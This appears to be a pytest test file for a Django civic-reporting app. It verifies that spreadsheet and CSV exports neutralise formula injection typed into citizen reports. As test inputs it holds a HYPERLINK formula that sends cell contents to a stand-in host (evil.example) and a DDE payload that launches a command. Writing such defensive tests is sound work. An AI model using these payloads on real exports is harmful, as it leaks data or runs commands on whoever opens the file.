"""Exports never hand a spreadsheet a formula that a citizen typed (issue 24, defect 4)."""

import csv
import io
import zipfile

import pytest

from sigap.lib import spreadsheet

pytestmark = pytest.mark.django_db

PERIOD = "dari=2026-01-01&sampai=2026-11-02"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


@pytest.fixture(autouse=True)
def _clock(time_machine, now):
    time_machine.move_to(now, tick=False)


def _raw(response) -> bytes:
    return b"".join(response.streaming_content)


@pytest.mark.parametrize("typed", [EVIL, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_the_csv_export_quotes_a_typed_formula(client, make_report, make_user, typed):
    make_report(address=typed, is_anonymous=True)
    client.force_login(make_user("executive"))
    text = _raw(client.get(f"/dasbor/ekspor.csv?{PERIOD}")).decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["alamat"] == "'" + typed.strip()  # the service strips the address


def test_the_excel_export_stores_a_typed_formula_as_text(client, make_report, make_user):
    make_report(address=EVIL)
    client.force_login(make_user("executive"))
    raw = _raw(client.get(f"/dasbor/ekspor.xlsx?{PERIOD}"))
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula anywhere: the address is an inline string
    assert 'inlineStr"><is><t>=HYPERLINK("http://evil' in sheet, sheet[-900:]


def test_numbers_stay_numbers(client, make_report, make_user):
    make_report(address="Jl. Timor Raya 5")
    client.force_login(make_user("executive"))
    text = _raw(client.get(f"/dasbor/ekspor.csv?{PERIOD}")).decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert float(row["lintang"]) < 0 and not row["lintang"].startswith("'")
    assert row["alamat"] == "Jl. Timor Raya 5"


def test_the_open_data_file_quotes_formulas_too(client, make_report, kupang, now):
    from sigap.agencies.models import Category
    from sigap.dashboard import public

    report = make_report()
    Category.objects.filter(pk=report.category_id).update(name_id=EVIL)
    public.refresh(kupang, now=now)
    text = _raw(client.get("/transparansi/data.csv")).decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["kategori"] == "'" + EVIL


def test_the_capacity_csv_quotes_formulas(tmp_path):
    from sigap.capacity import services

    path = services.write_search_csv({"=cmd|' /C calc'!A0": {
        "planned": 3, "at_plan": {"compliance": 0.5, "ci": 0.1},
        "targets": {0.9: None}}}, tmp_path / "officers.csv")
    rows = list(csv.reader(path.open(encoding="utf-8")))
    assert rows[1][0] == "'=cmd|' /C calc'!A0"


def test_the_helper_leaves_plain_values_alone():
    assert [spreadsheet.safe_cell(v) for v in ("abc", 1, -2.5, None, "", "a=b")] == [
        "abc", 1, -2.5, None, "", "a=b"]
